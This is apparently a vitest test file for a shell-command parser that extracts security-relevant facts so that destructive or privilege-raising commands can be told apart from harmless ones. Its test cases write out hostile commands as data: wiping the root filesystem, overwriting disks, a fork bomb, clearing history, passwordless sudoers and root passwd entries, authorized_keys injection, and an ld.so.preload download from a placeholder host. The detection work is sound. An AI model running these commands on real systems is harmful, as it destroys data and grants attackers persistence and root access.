// Commands that destroy, weaken or leave the host: the facts that tell the dangerous ones from the harmless.
import { describe, expect, test } from 'vitest';
import type { CommandFacts } from '../../../src/parse/command/reading.ts';
import { factsOf, factsOfProgram, optionsOf } from './read.ts';

type Expected = Partial<{ [K in keyof CommandFacts]: unknown }>;

const CASES: readonly (readonly [script: string, program: string, expected: Expected])[] = [
  ['rm -rf --no-preserve-root /', 'rm', { flags: ['--recursive', '--force', '--no-preserve-root'], paths: ['/'] }],
  ['rm -rf /var/lib/apt/lists/*', 'rm', { paths: ['/var/lib/apt/lists/*'], unguardedPaths: [] }],
  ['rm --recurs //etc/./', 'rm', { flags: ['--recursive'], paths: ['/etc'] }],
  ['rm -rf $BUILD_DIR/*', 'rm', { unguardedPaths: ['$BUILD_DIR/*'], looseWords: ['$BUILD_DIR/*'] }],
  ['rm -rf "$BUILD_DIR"/*', 'rm', { unguardedPaths: ['$BUILD_DIR/*'], looseWords: [] }],
  ['rm -rf "${BUILD_DIR:?}"/*', 'rm', { unguardedPaths: [] }],
  ['rm -rf "/srv/$DIR/x"', 'rm', { unguardedPaths: [] }],
  ['find / -type f -exec rm -f {} +', 'find', { paths: ['/'], flags: ['-type', '-exec'] }],
  ['find / -type f -exec rm -f {} +', 'rm', { wrappers: ['find'], operands: ['{}'], text: 'rm -f {}' }],
  ['find / -xdev -delete', 'find', { flags: ['-xdev', '-delete'] }],
  ['find / -xdev -perm /6000 -type f -exec chmod a-s {} +', 'chmod', { modeAdds: [], wrappers: ['find'] }],
  ['chown -R 1000:1000 /', 'chown', { flags: ['--recursive'], paths: ['1000:1000', '/'] }],
  ['dd if=payload.img of=/dev/sda bs=4M', 'dd', { writes: [{ path: '/dev/sda', append: false, text: '', via: 'dd' }] }],
  ['cp image /dev/sdb', 'cp', { writes: [{ path: '/dev/sdb', append: false, text: '', via: 'cp' }] }],
  ['mkfs.ext4 /dev/nvme0n1', 'mkfs.ext4', { operands: ['/dev/nvme0n1'] }],
  ['mkfs.ext4 -F ./rootfs.img', 'mkfs.ext4', { operands: ['./rootfs.img'], paths: ['rootfs.img'] }],
  ['mount | grep overlay', 'mount', { operands: [], feeds: ['grep'] }],
  ['grow() { grow | grow & }; grow', 'grow', { multiplies: true }],
  [':(){ :|:& };:', ':', { multiplies: true }],
  ['walk() { walk "$1" | tail -n1; }; walk x', 'walk', { multiplies: false }],
  [
    'fact() { [ "$1" -le 1 ] && echo 1 || echo $(( $1 * $(fact $(( $1 - 1 ))) )); }; fact 5',
    'fact',
    { multiplies: false },
  ],
  ['unset HISTFILE', 'unset', { unset: ['HISTFILE'] }],
  ['export HISTFILE=', 'export', { settings: [{ name: 'HISTFILE', value: '' }] }],
  ['history -c', 'history', { flags: ['-c'] }],
  ['kill -9 -1', 'kill', { operands: ['-1'] }],
  ['kill -TERM "$child_pid"', 'kill', { operands: ['$child_pid'] }],
  ['iptables -t nat -F', 'iptables', { flags: ['--table', '--flush'] }],
  ['iptables -L -n', 'iptables', { flags: ['--list', '--numeric'] }],
  ['setenforce 0', 'setenforce', { operands: ['0'] }],
  ['sudo -u app apt-get install -y jq', 'sudo', { runsAs: 'app', operands: ['apt-get', 'install', '-y', 'jq'] }],
  ['sudo apt-get install -y jq', 'apt-get', { wrappers: ['sudo'], runsAs: 'root', subcommand: 'install' }],
  ['exec gosu app:app /usr/bin/server', 'gosu', { wrappers: ['exec'], runsAs: 'app' }],
  ['exec gosu app:app /usr/bin/server', 'server', { wrappers: ['exec', 'gosu'], programPath: '/usr/bin/server' }],
  ['su - root -c "service cron start"', 'su', { runsAs: 'root' }],
  ['su - root -c "service cron start"', 'service', { wrappers: ['su'], operands: ['cron', 'start'] }],
  ['su', 'su', { runsAs: 'root' }],
  ['su-exec nobody:nogroup httpd -f', 'su-exec', { runsAs: 'nobody' }],
  ['setpriv --reuid=1000 --clear-groups app', 'setpriv', { runsAs: '1000' }],
  ['setpriv --no-new-privs app', 'setpriv', { runsAs: '' }],
  ['chmod 4755 /usr/local/bin/helper', 'chmod', { modeAdds: ['setuid'], modeOnDirectory: false }],
  ['chmod u=rwxs f', 'chmod', { modeAdds: ['setuid'] }],
  ['chmod 0755 f', 'chmod', { modeAdds: [] }],
  ['chmod 2775 /srv/share/', 'chmod', { modeAdds: ['setgid'], modeOnDirectory: true }],
  ['mkdir -p /srv/share && chmod g+s /srv/share', 'chmod', { modeAdds: ['setgid'], modeOnDirectory: true }],
  ['chmod g+s /srv/share', 'chmod', { modeOnDirectory: false }],
  ['chmod -R 777 /app', 'chmod', { modeAdds: ['others-write'], flags: ['--recursive'] }],
  ['chmod a+w f', 'chmod', { modeAdds: ['others-write'] }],
  ['chmod +w f', 'chmod', { modeAdds: [] }],
  ['chmod -x f', 'chmod', { operands: ['-x', 'f'], flags: [] }],
  ['chmod 1777 /tmp', 'chmod', { modeAdds: ['sticky', 'others-write'] }],
  ['install -m 4755 a /usr/bin/a', 'install', { modeAdds: ['setuid'] }],
  ['setcap cap_setuid,cap_chown+ep /usr/bin/x', 'setcap', { capabilities: ['SETUID', 'CHOWN'] }],
  ['setcap cap_net_bind_service=+ep /usr/bin/caddy', 'setcap', { capabilities: ['NET_BIND_SERVICE'] }],
  ['setcap all+ep /usr/bin/x', 'setcap', { capabilities: ['ALL'] }],
  ['setcap -r /usr/bin/x', 'setcap', { capabilities: [] }],
  ['command -v nsenter >/dev/null && echo found', 'command', { operands: ['nsenter'] }],
  ['unshare -UrmC sh', 'unshare', { flags: ['--user', '--map-root-user', '--mount', '--cgroup'] }],
  ['chroot /host /bin/sh', 'chroot', { operands: ['/host', '/bin/sh'] }],
  ['chroot /build/rootfs apk fix', 'apk', { wrappers: ['chroot'], subcommand: 'fix' }],
  ['usermod -aG docker app', 'usermod', { flags: ['--append', '--groups'] }],
  ['passwd -l root', 'passwd', { flags: ['--lock'] }],
  ['modprobe -n nf_tables', 'modprobe', { flags: ['--dry-run'] }],
  ['umask 000', 'umask', { operands: ['000'] }],
];

describe('facts that decide', () => {
  test.each(CASES)('%s (%s)', (script, program, expected) => {
    expect(factsOfProgram(script, program)).toMatchObject(expected);
  });
});

const WRITES: readonly (readonly [script: string, path: string, append: boolean, text: string])[] = [
  [
    'echo "app ALL=(ALL) NOPASSWD: ALL" > /etc/sudoers.d/app',
    '/etc/sudoers.d/app',
    false,
    'app ALL=(ALL) NOPASSWD: ALL',
  ],
  ['echo "x::0:0::/:/bin/sh" >> /etc/passwd', '/etc/passwd', true, 'x::0:0::/:/bin/sh'],
  ['echo "a b" | sudo tee -a /etc/sudoers', '/etc/sudoers', true, 'a b'],
  ['printf "%s\\n" one >> /root/.ssh/authorized_keys', '/root/.ssh/authorized_keys', true, 'one\n'],
  [
    'cat > /etc/apt/sources.list <<EOF\ndeb [trusted=yes] x\nEOF\n',
    '/etc/apt/sources.list',
    false,
    'deb [trusted=yes] x\n',
  ],
  ['echo "|/tmp/x" > /proc/sys/kernel/../kernel/core_pattern', '/proc/sys/kernel/core_pattern', false, '|/tmp/x'],
  ["sed -i 's/a/b/' /etc/passwd", '/etc/passwd', false, ''],
  ['truncate -s 0 /var/log/wtmp', '/var/log/wtmp', false, ''],
  ['cp key /root/.ssh/', '/root/.ssh/key', false, ''],
  ['mv -t /usr/local/bin tool', '/usr/local/bin/tool', false, ''],
  ['curl -so /etc/ld.so.preload https://x.example.invalid/p', '/etc/ld.so.preload', false, ''],
  ['>&/var/log/all', '/var/log/all', false, ''],
];

test.each(WRITES)('writes: %s', (script, path, append, text) => {
  const writes = factsOf(script).flatMap((facts) => facts.writes);
  expect(writes).toHaveLength(1);
  expect(writes[0]).toMatchObject({ path, append, text });
});

test('reading a file writes none, and descriptors are no files', () => {
  const [facts] = factsOf('grep -n NOPASSWD < /etc/sudoers 2>&1');
  expect(facts).toMatchObject({ writes: [], redirects: ['/etc/sudoers'] });
});

test('values of options are found whatever the spelling', () => {
  expect(optionsOf(factsOfProgram('mount -tcgroup -o memory none /tmp/cg', 'mount'))).toEqual({
    '--types': 'cgroup',
    '--options': 'memory',
  });
  expect(optionsOf(factsOfProgram('nsenter -t1 -m sh', 'nsenter'))).toEqual({ '--target': '1', '--mount': '' });
  expect(optionsOf(factsOfProgram('useradd -ou0 x', 'useradd'))).toEqual({ '--non-unique': '', '--uid': '0' });
});
